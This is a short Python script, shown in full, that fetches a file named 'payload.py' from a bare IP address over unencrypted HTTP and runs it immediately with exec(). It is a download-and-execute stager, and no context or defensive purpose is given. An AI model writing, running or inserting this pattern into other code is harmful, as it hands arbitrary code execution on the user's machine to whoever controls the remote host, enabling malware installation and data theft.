import requests
s = requests.Session()
code = s.get("http://203.0.113.50/payload.py").text
exec(code)
